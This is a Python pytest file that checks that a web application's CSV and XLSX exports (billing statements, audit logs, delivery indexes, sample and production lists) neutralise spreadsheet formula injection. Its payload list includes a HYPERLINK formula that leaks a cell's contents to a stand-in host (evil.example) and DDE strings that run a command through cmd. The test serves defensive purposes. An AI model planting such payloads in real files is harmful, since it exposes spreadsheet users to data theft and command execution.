"""OWASP's CSV-injection payloads through every CSV and XLSX Folio writes: none may reach a spreadsheet program as a
formula. A CSV cell must not begin with = + - @ TAB CR (app/core/exports.py puts an apostrophe first); an XLSX cell
must be text with the quote prefix, never a formula. The payload itself is kept (nothing is lost)."""

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import Workbook, load_workbook
from sqlalchemy import update
from sqlmodel import Session, col

from app.acceptance.applying import apply_for_acceptance
from app.acceptance.models import SampleItem
from app.acceptance.seeding import fix_seed
from app.accounts.models import Role, User
from app.billing.models import Payable, Payment
from app.billing.service import export_statement
from app.core.clock import utcnow
from app.core.exports import FORMULA_STARTS, export_cell, export_row, formula_like
from app.core.storage import LocalImageStore
from app.delivery import runner
from app.delivery.package import FRONTPAGE_CSV, FRONTPAGE_XLSX, INDEX_DIR, PAGES_CSV
from app.frontpage.service import enter_front_page
from app.projects.models import Project
from tests.acceptance.helpers import T0, add_record, day, make_shop
from tests.billing.helpers import MAY, MAY_AS_OF, make_office, may_scenario
from tests.delivery.helpers import accepted_records, approved_export
from tests.factories import make_project, signed_in_web_user

# OWASP "CSV Injection" (formula injection) examples, plus full-width forms that input methods type.
PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&B2,"open")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=1+2";=1+2',
    "＝1+2",
]


def unsafe_csv_cells(data: bytes) -> list[str]:
    """Cells of a CSV (UTF-8, with or without a BOM) that a spreadsheet program would run as formulas."""
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row if c.startswith(FORMULA_STARTS)]


def unsafe_xlsx_cells(data: bytes) -> list[str]:
    """Cells of an XLSX that are formulas, or formula-like text without the quote prefix."""
    book = load_workbook(io.BytesIO(data))
    return [
        f"{ws.title}!{c.coordinate}={c.value!r}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f" or (formula_like(c.value) and not c.quotePrefix)
    ]


def _all_text(data: bytes, xlsx: bool) -> str:
    if not xlsx:
        return data.decode("utf-8-sig")
    book = load_workbook(io.BytesIO(data))
    return "\n".join(str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_export_cell_writes_text_never_a_formula(payload: str) -> None:
    assert export_cell(payload) == "'" + payload
    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("s") if write_only else book.active
        sheet.append(export_row([payload, -5, "张三"], sheet))
        out = io.BytesIO()
        book.save(out)
        assert unsafe_xlsx_cells(out.getvalue()) == []
        first = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
        assert [c.value for c in first[1]] == [payload, -5, "张三"]  # shown exactly, the number still a number


def test_billing_statement_xlsx_and_csv(session: Session) -> None:
    office = make_office(session)
    by_lot = may_scenario(session, office)
    session.execute(update(Project).where(col(Project.id) == office.project.id).values(name=PAYLOADS[1]))
    session.execute(update(Payable).where(col(Payable.id) == by_lot[2].id).values(invoice_number=PAYLOADS[3]))
    session.execute(update(Payment).values(reference=PAYLOADS[5]))
    session.commit()
    for fmt in ("xlsx", "csv"):
        out = export_statement(
            session, office.project, MAY, fmt=fmt, as_of=MAY_AS_OF, today=MAY_AS_OF, actor=office.actor()
        )
        assert (unsafe_xlsx_cells if fmt == "xlsx" else unsafe_csv_cells)(out.content) == []
        assert PAYLOADS[3] in _all_text(out.content, fmt == "xlsx")


def test_delivery_front_page_index_and_pages_csv(
    client: TestClient,
    session: Session,
    db,
    image_store: Path,
    tmp_path: Path,  # noqa: ANN001
) -> None:
    acc = accepted_records(client, session, records=[("00012345", 1, {1: "首页"})])
    values = {"name": PAYLOADS[1], "diagnosis": PAYLOADS[4], "operation": PAYLOADS[8]}
    values |= {"discharge_date": "2024-03-15", "diagnosis_code": "K35.800", "operation_code": "47.09"}
    enter_front_page(
        session, acc.records[0], values, user_id=acc.manager.id, actor={}, today=utcnow().date(), now=utcnow()
    )
    session.commit()
    export = approved_export(session, acc, tmp_path / "package")
    assert runner.run_export(db, LocalImageStore(image_store), export.id).status == "done"
    index = tmp_path / "package" / "data" / INDEX_DIR
    assert unsafe_csv_cells((index / FRONTPAGE_CSV).read_bytes()) == []
    assert unsafe_csv_cells((index / PAGES_CSV).read_bytes()) == []
    xlsx = (index / FRONTPAGE_XLSX).read_bytes()
    assert unsafe_xlsx_cells(xlsx) == []
    assert PAYLOADS[1] in _all_text(xlsx, True) and "'" + PAYLOADS[4] in (index / FRONTPAGE_CSV).read_text("utf-8")


def test_audit_csv(client: TestClient, session: Session) -> None:
    auditor, _ = signed_in_web_user(client, session, make_project(session), "aud", Role.audit_admin)  # audited
    # Whatever the database holds (a user name from an import or an older version): the export stays inert.
    session.execute(update(User).where(col(User.id) == auditor.id).values(username=PAYLOADS[2]))
    session.commit()
    r = client.get("/audit.csv")
    assert r.status_code == 200 and "'" + PAYLOADS[2] in r.text
    assert unsafe_csv_cells(r.content) == []


def test_samples_csv_and_production_csv(client: TestClient, session: Session) -> None:
    shop = make_shop(session)
    session.execute(update(User).where(col(User.id) == shop.operator.id).values(display_name=PAYLOADS[6]))
    for n in range(3):
        add_record(session, shop, f"M{n:04d}", 12, T0 + timedelta(hours=n))
    session.commit()
    lot = apply_for_acceptance(
        session, shop.project, period_end=day("2026-01-31"), actor=shop.actor(shop.manager),
        today=day("2026-02-02"), now=T0 + timedelta(days=28),
    )  # fmt: skip
    rnd = fix_seed(session, lot, "seed", actor=shop.actor(shop.reviewer), today=day("2026-02-03"), now=T0)
    session.execute(update(SampleItem).where(col(SampleItem.round_id) == rnd.id).values(note=PAYLOADS[5]))
    session.commit()
    signed_in_web_user(client, session, shop.project, "boss", Role.vendor_manager)
    samples = client.get(f"/acceptance/lots/{lot.id}/rounds/{rnd.number}/samples.csv")
    assert samples.status_code == 200 and "'" + PAYLOADS[5] in samples.text
    assert unsafe_csv_cells(samples.content) == []
    first = T0.date() - timedelta(days=1)
    production = client.get(f"/production/export.csv?start={first.isoformat()}&end={day('2026-01-31').isoformat()}")
    assert production.status_code == 200 and "'" + PAYLOADS[6] in production.text
    assert unsafe_csv_cells(production.content) == []
